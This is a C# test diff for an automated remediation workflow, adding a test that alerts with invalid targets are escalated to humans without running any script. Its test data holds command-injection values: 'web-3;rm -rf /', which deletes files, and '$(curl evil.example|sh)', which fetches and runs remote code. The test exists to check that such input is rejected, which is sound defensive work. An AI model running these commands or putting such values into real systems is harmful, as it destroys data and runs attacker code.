@@ -203,6 +203,30 @@ public sealed class RemediationFailurePathTests
         Assert.Equal("escalated", Assert.Single(h.Executions.All()).Status);
     }
 
+    [Theory]
+    [InlineData("", "web-3;rm -rf /")]
+    [InlineData("$(curl evil.example|sh)", null)]
+    public async Task Run_WhenAlertTargetIsInvalid_ShouldEscalateInvalidTargetWithoutRunning(string instanceLabel, string? invalidHost)
+    {
+        await using var h = new WorkflowHarness();
+        h.Model.Returns(WorkflowHarness.ModelPlan(WorkflowHarness.FixScript));
+        var labels = instanceLabel.Length > 0 ? new Dictionary<string, string> { ["instance_id"] = instanceLabel } : new Dictionary<string, string>();
+        var alert = WorkflowHarness.Alert() with
+        {
+            Host = invalidHost is null ? WorkflowHarness.Alert().Host : "",
+            InvalidTarget = invalidHost is null ? null : "host is not a DNS name, IP address or cloud instance id (character ';' at position 6)",
+            Labels = labels,
+        };
+
+        var execution = await h.RunAsync(alert);
+
+        Assert.Equal("Remediation.Escalated", execution.Error);
+        Assert.Equal(
+            [.. Head, "Analyze", "ForgetModelRequest", "ParsePlan", "ValidateScript", "SafetyDecision", "MarkInvalidTarget", .. Tail, "Escalated"],
+            await h.PathAsync(execution.ExecutionArn));
+        Assert.Empty(h.Executor.Sent);
+    }
+
     [Fact]
     public async Task Run_WhenFingerprintWasRemediatedTooOften_ShouldHandToAHumanAtTheLoopGuard()
     {
